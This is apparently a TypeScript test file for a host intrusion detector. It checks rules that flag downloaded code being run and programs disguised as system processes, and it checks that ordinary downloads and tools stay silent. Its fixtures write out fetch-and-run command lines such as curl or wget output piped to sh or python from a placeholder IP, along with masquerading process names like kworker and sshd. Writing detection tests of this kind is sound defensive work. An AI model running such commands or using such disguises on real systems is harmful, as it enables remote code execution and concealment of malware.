import { describe, expect, it } from 'vitest';
import type { HostEvent, HostProcessWithParents } from '../../../contract/events.ts';
import { downloadAndRunBehaviour } from './download-and-run.ts';
import { hiddenProgramBehaviour } from './hidden-program.ts';
import { findingsOf, program, START_MS, starts } from './testing.ts';

function writes(process: HostProcessWithParents, path: string, timeMs = START_MS): HostEvent {
  return { type: 'file-written', timeMs, path, process };
}

const SHELL = '/usr/bin/bash';

describe('download and run', () => {
  const attacks: readonly [string, readonly HostEvent[], string][] = [
    [
      'curl | sh',
      [
        starts(program('/usr/bin/curl -fsSL http://203.0.113.5/a', [SHELL])),
        starts(program('/usr/bin/sh', [SHELL]), START_MS + 3),
      ],
      'medium',
    ],
    [
      'wget -qO- | python3 -',
      [
        starts(program('/usr/bin/wget -qO- http://203.0.113.5/a', [SHELL])),
        starts(program('/usr/bin/python3.11 -', [SHELL]), START_MS + 3),
      ],
      'medium',
    ],
    [
      'wget, chmod, run',
      [
        writes(program('/usr/bin/wget http://203.0.113.5/a -O /tmp/a', [SHELL]), '/tmp/a'),
        starts(program('/tmp/a', [SHELL]), START_MS + 900),
      ],
      'high',
    ],
    [
      'a fetched script',
      [
        writes(program('/usr/bin/curl -o /tmp/a.sh http://a', [SHELL]), '/tmp/a.sh'),
        starts(program('/usr/bin/bash /tmp/a.sh', [SHELL]), START_MS + 900),
      ],
      'high',
    ],
    [
      'curl | sh where sh was the first to run',
      [
        starts(program('/usr/bin/sh', [SHELL])),
        starts(program('/usr/bin/curl -fsSL http://203.0.113.5/a', [SHELL]), START_MS + 1),
      ],
      'medium',
    ],
    [
      'a fetched script of which we hear only once it runs',
      [
        starts(program('/usr/bin/bash /tmp/a.sh', [SHELL])),
        writes(program('/usr/bin/curl -o /tmp/a.sh http://a', [SHELL]), '/tmp/a.sh', START_MS + 20),
      ],
      'high',
    ],
    [
      'a fetched program that got its name at the end, of which we hear only once it runs',
      [
        writes(program('/usr/bin/wget http://a', [SHELL]), '/tmp/a.part'),
        starts(program('/tmp/a', [SHELL]), START_MS + 10),
        { type: 'file-renamed', timeMs: START_MS + 20, previousPath: '/tmp/a.part', path: '/tmp/a' },
      ],
      'high',
    ],
  ];
  for (const [name, events, severity] of attacks) {
    it(`tells of ${name}`, () =>
      expect(findingsOf(downloadAndRunBehaviour, events)).toMatchObject([{ kind: 'execution', severity }]));
  }

  const usual: readonly [string, readonly HostEvent[]][] = [
    ['curl | jq', [starts(program('/usr/bin/curl -s http://a', [SHELL])), starts(program('/usr/bin/jq .x', [SHELL]))]],
    [
      'curl | python -m json.tool',
      [
        starts(program('/usr/bin/curl -s http://a', [SHELL])),
        starts(program('/usr/bin/python3 -m json.tool', [SHELL])),
      ],
    ],
    [
      'a download that is kept',
      [starts(program('/usr/bin/curl -O http://a/x.tar.gz', [SHELL])), starts(program('/usr/bin/sh', [SHELL]))],
    ],
    [
      'a script that ran long after',
      [
        writes(program('/usr/bin/curl -o /home/anna/a.sh http://a'), '/home/anna/a.sh'),
        starts(program('/usr/bin/bash /home/anna/a.sh'), START_MS + 7_200_000),
      ],
    ],
    [
      'a script that is fetched again after it ran',
      [
        starts(program('/usr/bin/bash /home/anna/a.sh', [SHELL])),
        writes(program('/usr/bin/curl -o /home/anna/a.sh http://a', [SHELL]), '/home/anna/a.sh', START_MS + 2_000),
      ],
    ],
    [
      'a program that ran while its next version came, which took its place minutes later',
      [
        writes(program('/usr/bin/curl -o /home/anna/a.part http://a', [SHELL]), '/home/anna/a.part'),
        starts(program('/home/anna/a', [SHELL]), START_MS + 10),
        { type: 'file-renamed', timeMs: START_MS + 90_000, previousPath: '/home/anna/a.part', path: '/home/anna/a' },
      ],
    ],
    [
      'a script that fetches its own next version',
      [
        starts(program('/usr/bin/bash /home/anna/a.sh', [SHELL])),
        writes(
          program('/usr/bin/curl -o /home/anna/a.sh http://a', ['/usr/bin/bash /home/anna/a.sh', SHELL]),
          '/home/anna/a.sh',
          START_MS + 20,
        ),
      ],
    ],
    [
      'a script from a pipe, and then a download',
      [
        starts(program('/usr/bin/sh', [SHELL])),
        starts(program('/usr/bin/curl -s http://a', [SHELL]), START_MS + 30),
        starts(program('/usr/bin/jq .x', [SHELL]), START_MS + 30),
      ],
    ],
    [
      'a package that fetches',
      [
        starts(program('/usr/bin/curl -s http://a', ['/bin/sh x.postinst', '/usr/bin/dpkg -i'])),
        starts(program('/bin/sh', ['/bin/sh x.postinst', '/usr/bin/dpkg -i'])),
      ],
    ],
  ];
  for (const [name, events] of usual) {
    it(`is silent about ${name}`, () => expect(findingsOf(downloadAndRunBehaviour, events)).toEqual([]));
  }
});

describe('hidden programs', () => {
  const hidden: readonly [HostProcessWithParents, string][] = [
    [program('memfd:x -c', ['/usr/bin/python3']), 'high'],
    [{ ...program('/tmp/kworker'), commandLine: '[kworker/0:1]' }, 'high'],
    [program('/tmp/x', [SHELL], { isImageDeleted: true }), 'high'],
    [program('/tmp/.ICE/run'), 'medium'],
    [program('/home/anna/.x/sshd'), 'medium'],
    [program('/dev/shm/x'), 'medium'],
    [program('/tmp/crond'), 'medium'],
    [program('/usr/bin/bash /var/tmp/.a/run.sh'), 'medium'],
    [{ ...program('/home/anna/x'), commandLine: '/usr/sbin/sshd -D', arguments: ['/usr/sbin/sshd', '-D'] }, 'high'],
    [{ ...program('/tmp/y'), commandLine: 'cron', arguments: ['cron'] }, 'high'],
  ];
  for (const [process, severity] of hidden) {
    it(`tells of ${process.commandLine}`, () =>
      expect(findingsOf(hiddenProgramBehaviour, [starts(process)])).toMatchObject([{ severity }]));
  }

  it('is silent about what is usual', () => {
    const usual = [
      program('memfd:runc_cloned:/proc/self/exe init'),
      program('/home/anna/.cargo/bin/rg x'),
      program('/home/anna/.vscode-server/bin/abc/node'),
      program('/home/anna/.local/bin/pytest'),
      program('/tmp/.mount_ObsidiX/obsidian'),
      program('/usr/bin/firefox', [], { isImageDeleted: true }),
      program('/usr/bin/bash', [SHELL], { name: 'kworker' }),
      program('/home/anna/project/node_modules/.bin/tsc'),
      program('/tmp/go-build123/b001/exe/main'),
      program('/usr/lib/git-core/git status'),
      program('/usr/bin/bash /home/anna/.xinitrc'),
      { ...program('/home/anna/.pyenv/versions/3.12/bin/python3.12'), commandLine: '/usr/bin/python3 x' },
      { ...program('/home/anna/bin/server'), commandLine: 'server: worker', arguments: ['server:', 'worker'] },
      { ...program('/usr/lib/systemd/systemd'), commandLine: '/sbin/init', arguments: ['/sbin/init'] },
    ];
    for (const process of usual)
      expect(findingsOf(hiddenProgramBehaviour, [starts(process)]), process.commandLine).toEqual([]);
  });

  it('tells of a program whose file is deleted while it runs, not once it has ended or runs another', () => {
    const running = program('/tmp/worker --quiet', ['/usr/bin/bash']);
    const deleted: HostEvent = { type: 'file-deleted', timeMs: START_MS + 9, path: '/tmp/worker' };
    const ended: HostEvent = { type: 'process-exit', timeMs: START_MS + 5, process: running };
    const other = { ...program('/usr/bin/sleep 9', ['/usr/bin/bash']), pid: running.pid };
    expect(findingsOf(hiddenProgramBehaviour, [starts(running), deleted])).toMatchObject([
      { severity: 'medium', techniques: ['T1070.004'], title: 'worker runs on after its file was deleted' },
    ]);
    expect(findingsOf(hiddenProgramBehaviour, [starts(running), ended, deleted])).toEqual([]);
    expect(findingsOf(hiddenProgramBehaviour, [starts(running), starts(other), deleted])).toEqual([]);
  });
});
